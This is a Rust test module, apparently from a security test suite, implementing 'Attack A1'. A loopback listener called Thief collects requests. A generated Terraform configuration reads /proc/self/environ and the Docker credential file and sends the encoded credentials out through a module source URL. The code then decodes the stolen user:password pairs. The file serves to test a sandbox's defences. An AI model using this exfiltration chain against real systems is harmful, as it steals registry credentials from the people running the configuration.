//! Attack A1: a configuration that finds the registry credential by static evaluation alone, and whoever it sends it
//! to.
//!
//! Rule: it only takes what any author of a configuration could take: no program, no provider, no privilege.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex, PoisonError};
use std::thread;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use serde_json::Value;

use crate::failure::{During as _, Outcome};

/// What comes before the loot in the request.
const PATH: &str = "/module.zip?loot=";
/// Bytes of a request's head.
const HEAD_BYTES: usize = 64 * 1024;

/// Listens on loopback, and keeps what is sent.
#[derive(Debug)]
pub struct Thief {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Thief {
    /// Listens until the program ends.
    pub fn start() -> Outcome<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").during("the thief's listener")?;
        let port = listener.local_addr().during("the thief's listener")?.port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let memory = Arc::clone(&heard);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let mut request = Vec::new();
                let mut buffer = [0; 4096];
                while !request.ends_with(b"\r\n\r\n") && request.len() < HEAD_BYTES {
                    match stream.read(&mut buffer) {
                        Ok(length) if length > 0 => request.extend_from_slice(buffer.get(..length).unwrap_or_default()),
                        _ => break,
                    }
                }
                let line = String::from_utf8_lossy(&request).lines().next().unwrap_or_default().to_owned();
                memory.lock().unwrap_or_else(PoisonError::into_inner).push(line);
                let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\nConnection: close\r\nContent-Length: 0\r\n\r\n");
            }
        });
        Ok(Self { port, heard })
    }

    /// Environment → CLI configuration → Docker file → the address of a module.
    pub fn configuration(&self) -> String {
        let port = self.port;
        format!(
            r#"locals {{
  settings = regex("TF_CLI_CONFIG_FILE=([^\\x00]+)", file("/proc/self/environ"))[0]
  logins   = regex("docker_style_config_files = \\[\"([^\"]+)\"", file(local.settings))[0]
  loot     = replace(replace(base64encode(file(local.logins)), "+", "-"), "/", "_")
}}

module "loot" {{
  source = "http://127.0.0.1:{port}{PATH}${{local.loot}}"
}}
"#
        )
    }

    /// What was sent since the last time, decoded: each Docker file, and each `user:password` in it.
    pub fn loot(&self) -> Vec<String> {
        let lines = std::mem::take(&mut *self.heard.lock().unwrap_or_else(PoisonError::into_inner));
        let mut loot = Vec::new();
        for line in lines {
            let sent = line.split(PATH).nth(1).and_then(|rest| rest.split([' ', '&']).next()).unwrap_or_default();
            let file = URL_SAFE.decode(sent.replace("%3D", "=")).unwrap_or_default();
            let file = String::from_utf8_lossy(&file).into_owned();
            let document: Value = serde_json::from_str(&file).unwrap_or_default();
            for entry in document["auths"].as_object().into_iter().flat_map(|auths| auths.values()) {
                let login = STANDARD.decode(entry["auth"].as_str().unwrap_or_default()).unwrap_or_default();
                loot.push(String::from_utf8_lossy(&login).into_owned());
            }
            loot.push(file);
        }
        loot
    }
}
